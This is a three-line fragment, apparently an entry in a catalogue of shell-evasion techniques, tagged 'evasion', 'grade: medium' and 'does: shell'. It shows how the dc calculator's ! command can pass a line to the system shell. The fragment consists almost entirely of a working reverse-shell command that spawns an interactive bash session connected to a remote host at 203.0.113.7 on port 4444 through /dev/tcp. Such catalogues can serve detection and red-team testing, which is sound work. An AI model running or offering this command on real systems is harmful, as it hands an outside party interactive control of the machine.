# evasion: dc's ! command hands the rest of the line to the system shell
# grade: medium; does: shell
dc -e '!bash -c "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"'
